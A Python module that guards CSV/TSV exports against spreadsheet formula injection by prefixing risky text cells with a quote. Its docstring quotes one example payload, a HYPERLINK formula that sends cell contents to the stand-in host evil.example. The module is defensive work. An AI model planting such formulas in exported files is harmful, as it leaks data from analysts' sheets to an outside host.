"""Text cells made safe for spreadsheets (CSV/TSV formula injection, OWASP's advice).

A spreadsheet opening a CSV or TSV file runs a cell that starts with ``=``, ``+``, ``-``
or ``@`` (or a tab or carriage return before one) as a formula: an article title such as
``=HYPERLINK("http://evil.example/?"&A1, "click")`` would run in the analyst's sheet.
Every *text* cell starting with one of those characters is written with a single quote in
front, which spreadsheets show as text; numbers (``-3.5`` as a float) stay numbers.
Every CSV or TSV the library writes (``analysis.exports``, ``review.gold``) goes through
:func:`safe_cell`.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` with a ``'`` in front when it is text starting like a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Mapping[str, Any]) -> dict[str, Any]:
    """:func:`safe_cell` over every value of a row."""
    return {k: safe_cell(v) for k, v in row.items()}


__all__ = ["FORMULA_STARTS", "safe_cell", "safe_row"]
